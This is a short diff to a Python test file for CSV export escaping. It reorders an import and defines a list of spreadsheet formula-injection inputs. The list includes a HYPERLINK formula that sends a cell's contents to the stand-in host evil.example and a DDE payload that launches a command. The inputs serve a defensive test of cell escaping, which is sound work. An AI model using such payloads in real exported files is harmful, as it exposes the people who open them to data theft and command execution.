@@ -7,11 +7,11 @@ import io
 import pytest
 
 from guidance import Conversation
-from knowledge_base.escaping import csv_cell
 from guidance.insights import export_csv
 from guidance.journal import QuestionLog
 from guidance.models import Pathway, PathwayStep
 from guidance.pathways import plan_csv
+from knowledge_base.escaping import csv_cell
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "=1+1\n"]
